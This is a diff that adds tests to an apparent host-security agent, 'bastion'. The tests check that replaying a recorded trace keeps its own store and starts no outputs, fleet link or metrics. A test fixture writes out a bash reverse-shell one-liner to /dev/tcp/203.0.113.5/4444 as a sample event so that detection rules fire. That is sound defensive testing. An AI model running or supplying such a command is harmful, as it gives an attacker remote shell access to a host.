@@ -134,3 +134,84 @@ def test_a_replayed_actor_is_not_taken_for_the_live_process_holding_its_pid(
     finally:
         live.kill()
         live.wait()
+
+
+def _shell_event() -> Any:
+    from bastion.events import ExecEvent
+
+    me = Proc(4_194_000, 4_194_000, 1, 0, 0, 0, 7, "bash", 1, "/usr/bin/bash")
+    return ExecEvent(time.time_ns(), me, filename="/usr/bin/bash", cwd="/tmp",
+                     argv=("bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"))
+
+
+def test_a_replay_never_writes_into_the_live_store(tmp_path: Path) -> None:
+    """s25 (review 9 of s24): a replay with the default data dir wrote the recording's
+    alerts into the live agent's tamper-evident store, as this host's, beside the live
+    writer.  It is refused before anything is opened there."""
+    import threading
+
+    from bastion.assembly import AgentOptions, build_agent
+    from bastion.config import parse_policy
+    from bastion.errors import ConfigError
+    from bastion.paths import DEFAULT_DATA_DIR
+
+    existed = DEFAULT_DATA_DIR.exists()
+    trace = _write(tmp_path / "t.jsonl", [json.dumps(to_json(_shell_event()))])
+    with pytest.raises(ConfigError, match="a replay keeps its own store") as ei:
+        agent = build_agent(AgentOptions(policy=parse_policy("version: 1\n", "p.yaml"),
+                                         data_dir=DEFAULT_DATA_DIR, socket_path=None,
+                                         replay_path=trace), lambda _m: None)
+        agent.run(threading.Event())
+    assert str(DEFAULT_DATA_DIR) in str(ei.value)
+    assert DEFAULT_DATA_DIR.exists() == existed
+
+
+def test_a_replay_starts_no_output_fleet_or_metrics(tmp_path: Path) -> None:
+    """s25: a replay's alerts went to the policy's outputs (a SIEM, a webhook, the
+    fleet) and metrics as this host's own.  A replay reports to its feed and its own
+    store only, and says so."""
+    import threading
+
+    from bastion.assembly import AgentOptions, build_agent
+    from bastion.config import parse_policy
+
+    out = tmp_path / "siem.jsonl"
+    pol = parse_policy(f"version: 1\noutputs:\n  - type: jsonl\n    path: {out}\n"
+                       "metrics: {listen: '127.0.0.1:1'}\n", "p.yaml")
+    trace = _write(tmp_path / "t.jsonl", [json.dumps(to_json(_shell_event()))])
+    said: list[str] = []
+    agent = build_agent(AgentOptions(policy=pol, data_dir=tmp_path / "data", socket_path=None,
+                                     replay_path=trace), said.append)
+    agent.run(threading.Event())
+    try:
+        stored = [a.data["rule"] for a in agent.store.alerts(limit=50)]
+    finally:
+        agent.store.close()
+    assert any(r.startswith("behavior.") for r in stored), stored
+    assert not out.exists(), out.read_text()
+    assert agent.outputs is None and agent.metrics is None
+    assert any("outputs, fleet link and metrics are not started" in s for s in said), said
+
+
+def test_the_cli_gives_a_replay_its_own_store_and_socket(tmp_path: Path) -> None:
+    """``bastion run --replay F`` with no --data-dir: a new directory of its own, named on
+    stderr, holds the store and the control socket (the defaults were the live agent's:
+    its store, and its socket, which made a replay fail while the agent ran)."""
+    import re
+    import subprocess
+    import sys
+
+    trace = _write(tmp_path / "t.jsonl", [json.dumps(to_json(_shell_event()))])
+    r = subprocess.run([sys.executable, "-m", "bastion.cli.main", "run", "--replay", str(trace),
+                        "--quiet"], capture_output=True, text=True, timeout=120,
+                       env={**os.environ, "BASTION_DATA_DIR": "", "BASTION_SOCKET": ""})
+    assert r.returncode == 0, r.stderr
+    m = re.search(r"replay: its store is (/\S+)", r.stderr)
+    assert m, r.stderr
+    d = Path(m.group(1))
+    try:
+        assert d.name.startswith("bastion-replay-") and (d / "bastion.db").exists()
+    finally:
+        import shutil
+
+        shutil.rmtree(d, ignore_errors=True)
